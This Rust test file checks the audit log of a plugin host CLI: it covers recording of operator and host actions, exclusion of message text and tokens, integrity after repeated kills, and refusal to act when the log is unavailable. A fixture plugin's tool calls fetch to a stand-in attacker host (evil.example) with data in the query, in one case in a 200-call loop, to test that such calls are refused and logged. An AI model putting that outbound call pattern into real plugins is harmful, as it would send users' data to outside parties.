//! The audit log: what is done is in it, nothing that somebody wrote is, and whoever changes it is found out.

mod exporting;
mod tampering;

use std::fs;
use std::path::PathBuf;

use rustix::process::{Pid, Signal, kill_process};
use serde_json::{Value, json};

use crate::support::{Place, Random, Running};

/// A plugin whose tool tries what it may not, and one that may send; a gate that stops what is secret.
const WISH: (&str, &str, &str) = (
    "wish",
    "tools: [{ name: attempt, description: Tries, input: { type: object } }, { name: look, description: Looks, input: { type: object }, sideEffects: false }]
permissions: { network: ['https://api.example.com'] }",
    "tools: { attempt: async (input, wa) => wa.fetch('https://evil.example/path?with=words'), look: () => 'seen' }",
);
const GATE: (&str, &str, &str) = (
    "marker",
    "hooks: [{ on: message.sending }]",
    "hooks: { 'message.sending': (draft) =>
        draft.text.includes('stop') ? block(`no: ${draft.text}`) : { ...draft, text: `[seen] ${draft.text}` } }",
);

/// What `wa audit show` finds with these arguments.
fn shown(place: &Place, arguments: &[&str]) -> Vec<Value> {
    let all = ["audit", "show", "--json"].iter().chain(arguments);
    let document = place.wa(all).succeeds().json();
    assert_eq!(document["schemaVersion"], 1);
    document["records"].as_array().unwrap().clone()
}

fn actions(records: &[Value]) -> Vec<&str> {
    records.iter().map(|record| record["action"].as_str().unwrap()).collect()
}

/// The files of the project's log, and their bytes.
fn log_files(place: &Place) -> Vec<(PathBuf, Vec<u8>)> {
    let entries = fs::read_dir(place.path(".wa/audit")).unwrap().map(|entry| entry.unwrap().path());
    let mut files: Vec<PathBuf> = entries.filter(|path| path.is_file()).collect();
    files.sort();
    files.into_iter().map(|path| (path.clone(), fs::read(path).unwrap())).collect()
}

#[track_caller]
fn is_intact(place: &Place) -> u64 {
    let verified = place.wa(["audit", "verify", "--json"]).succeeds().json();
    assert_eq!(verified["verdict"], "intact", "{verified}");
    verified["lastGood"].as_u64().unwrap()
}

#[test]
fn what_an_operator_does_is_recorded_with_what_it_gives() {
    let place = Place::with_project();
    let key = place.key("acme");
    let package = place.package("desk", "1.0.0", "permissions: { storage: 1MiB }");
    // Nobody trusts the key yet: refused, and that is recorded too.
    place.wa(["plugins", "install", &package, "--yes"]).exits(1);
    place.install(&package, &key).succeeds();
    place.wa(["plugins", "disable", "desk"]).succeeds();
    place.wa(["plugins", "enable", "desk"]).succeeds();
    place.wa(["plugins", "uninstall", "desk", "--yes"]).succeeds();
    let records = shown(&place, &[]);
    let expected = [
        "audit.create",
        "plugin.install",
        "plugin.install",
        "plugin.grant",
        "plugin.disable",
        "plugin.enable",
        "plugin.uninstall",
    ];
    assert_eq!(actions(&records), expected);
    assert_eq!((&records[1]["outcome"], &records[1]["subject"]), (&json!("refused"), &json!(package)));
    let installed = &records[2];
    assert_eq!((&installed["outcome"], &installed["plugin"]), (&json!("done"), &json!("desk")));
    assert_eq!(
        (&installed["details"]["version"], &installed["details"]["keys"]),
        (&json!("1.0.0"), &json!([key]))
    );
    assert!(installed["actor"].as_str().unwrap().starts_with("operator:"), "{installed}");
    let permissions = records[3]["details"]["permissions"].to_string();
    assert!(permissions.contains("1 MiB") || permissions.contains("1MiB"), "{permissions}");
    // Keys and trust belong to no project.
    let own = shown(&place, &["--operator"]);
    assert_eq!(actions(&own), ["audit.create", "key.new", "trust.add"]);
    assert_eq!(own[2]["details"]["keys"], json!([key]));
    is_intact(&place);
    place.wa(["audit", "verify", "--operator"]).succeeds();
}

#[test]
fn trust_and_keys_go_to_the_operators_log_also_outside_of_a_project() {
    let place = Place::empty();
    place.wa(["keys", "new", "acme"]).succeeds();
    let public = place.config().join("keys/acme.pub");
    let public = public.to_str().unwrap();
    place.wa(["trust", "add", "acme", public, "--packages", "@acme/*"]).succeeds();
    place.wa(["trust", "revoke", "acme"]).succeeds();
    place.wa(["trust", "remove", "acme"]).succeeds();
    place.wa(["trust", "root", "add", "https://plugins.example/", public]).succeeds();
    place.wa(["trust", "root", "remove", "https://plugins.example/"]).succeeds();
    let own = shown(&place, &["--operator"]);
    let expected = [
        "audit.create",
        "key.new",
        "trust.add",
        "trust.revoke",
        "trust.remove",
        "trust.root_add",
        "trust.root_remove",
    ];
    assert_eq!(actions(&own), expected);
    // What a rule refuses was on record as done, and is recorded as failed.
    place.wa(["trust", "remove", "acme"]).exits(1);
    let own = shown(&place, &["--operator", "-n", "2"]);
    assert_eq!((&own[0]["outcome"], &own[1]["outcome"]), (&json!("done"), &json!("failed")));
}

#[test]
fn what_a_host_does_is_recorded_and_nothing_that_anybody_wrote() {
    let place = Place::with_echo(&[WISH, GATE]);
    let host = Running::start(&place);
    let token = host.token().to_owned();
    let mut console = host.console();
    assert_eq!(console.ask("me", "zebra"), "[seen] echo: zebra");
    console.say("me", "stop zebra");
    host.tool("attempt", &json!({ "zebra": 1 })).unwrap_err();
    host.tool("look", &json!({})).unwrap();
    host.rpc("plugins.reload", &json!({})).unwrap();
    assert_eq!(console.ask("me", "again zebra"), "[seen] echo: again zebra");
    host.stop();
    let records = shown(&place, &[]);
    let has = |action: &str, plugin: &str| {
        records
            .iter()
            .any(|record| record["action"] == action && (plugin.is_empty() || record["plugin"] == plugin))
    };
    for (action, plugin) in [
        ("host.start", ""),
        ("host.reload", ""),
        ("host.stop", ""),
        ("worker.start", "desk"),
        ("worker.start", "wish"),
        ("worker.end", "desk"),
        ("gate.change", "marker"),
        ("gate.block", "marker"),
        ("host_call.refuse", "wish"),
        ("tool.call", "wish"),
        ("message.send", ""),
    ] {
        assert!(has(action, plugin), "{action} of {plugin} is not there:\n{records:#?}");
    }
    let calls = shown(&place, &["--action", "tool.call"]);
    assert!(calls.iter().all(|call| call["subject"] == "attempt"), "a look has no side effects: {calls:#?}");
    let refused = &shown(&place, &["--action", "host_call.*"])[0];
    assert_eq!(
        (&refused["subject"], &refused["details"]["origin"]),
        (&json!("http.fetch"), &json!("https://evil.example"))
    );
    let sent = &shown(&place, &["--action", "message.send"])[0];
    assert_eq!(
        (&sent["actor"], &sent["details"]["channel"], &sent["details"]["kind"]),
        (&json!("agent:ana"), &json!("console"), &json!("text"))
    );
    // The start of a worker is on record before anything that its code does.
    let place_of = |action: &str, plugin: &str| {
        records.iter().position(|record| record["action"] == action && record["plugin"] == plugin)
    };
    assert!(place_of("worker.start", "marker") < place_of("gate.change", "marker"));
    for (path, bytes) in log_files(&place) {
        let text = String::from_utf8(bytes).unwrap();
        for written in ["zebra", "with=words", token.as_str()] {
            assert!(!text.contains(written), "`{written}` is in {}", path.display());
        }
    }
    is_intact(&place);
}

#[test]
fn a_plugin_that_asks_again_and_again_fills_no_disk() {
    let again = "tools: { look: () => 1, attempt: async (input, wa) => {
        for (let i = 0; i < 200; i++) { try { await wa.fetch('https://evil.example/') } catch {} }
    } }";
    let place = Place::with_echo(&[(WISH.0, WISH.1, again)]);
    let host = Running::start(&place);
    host.tool("attempt", &json!({})).unwrap();
    host.stop();
    assert_eq!(shown(&place, &["--action", "host_call.refuse"]).len(), 10);
}

#[test]
fn after_twenty_five_kills_under_load_the_log_is_intact() {
    let place = Place::with_echo(&[GATE]);
    let mut random = Random::seeded();
    let mut last = 0;
    for life in 0..25 {
        let host = Running::start(&place);
        let mut console = host.console();
        console.ask("me", "first");
        let pid = Pid::from_raw(host.pid().try_into().unwrap()).unwrap();
        // The kill comes while these are on their way.
        let messages = random.within(1..40);
        for number in 0..messages {
            let line = json!({ "type": "message", "chat": format!("c{}", number % 4), "id": format!("{life}-{number}"), "text": "hi" });
            console.write(&line).unwrap();
        }
        kill_process(pid, Signal::KILL).unwrap();
        host.kill();
        let verified = is_intact(&place);
        assert!(verified > last, "nothing was recorded in life {life}");
        last = verified;
    }
    let starts = shown(&place, &["--action", "host.start"]);
    assert_eq!(starts.len(), 25);
    assert!(!shown(&place, &["--action", "message.send"]).is_empty());
}

#[test]
fn what_cannot_be_recorded_is_not_done() {
    let place = Place::with_echo(&[]);
    place.wa(["plugins", "disable", "desk"]).succeeds();
    let before = place.read("wa.yaml");
    // A folder where the state belongs: nothing can be added, whoever asks.
    let state = place.path(".wa/audit/state");
    let kept = fs::read(&state).unwrap();
    fs::remove_file(&state).unwrap();
    fs::create_dir(&state).unwrap();
    let said = place.wa(["plugins", "enable", "desk"]).exits(2);
    assert!(said.stderr().contains("cannot record this in the audit log, so it is not done"), "{said}");
    assert_eq!(place.read("wa.yaml"), before);
    let stderr = Running::try_start(&place).err().expect("a host runs without its audit log");
    assert!(stderr.contains("nothing runs without it"), "{stderr}");
    fs::remove_dir(&state).unwrap();
    fs::write(&state, kept).unwrap();
    place.wa(["plugins", "enable", "desk"]).succeeds();

    // The same under a running host.
    let host = Running::start(&place);
    fs::rename(place.path(".wa/audit"), place.path(".wa/away")).unwrap();
    fs::write(place.path(".wa/audit"), "").unwrap();
    let said = host.rpc("plugins.reload", &json!({})).unwrap_err();
    assert!(said["message"].as_str().unwrap().contains("audit log"), "{said}");
    fs::remove_file(place.path(".wa/audit")).unwrap();
    fs::rename(place.path(".wa/away"), place.path(".wa/audit")).unwrap();
    host.rpc("plugins.reload", &json!({})).unwrap();
    assert_eq!(host.console().ask("me", "hi"), "echo: hi");
    host.stop();
    is_intact(&place);
}
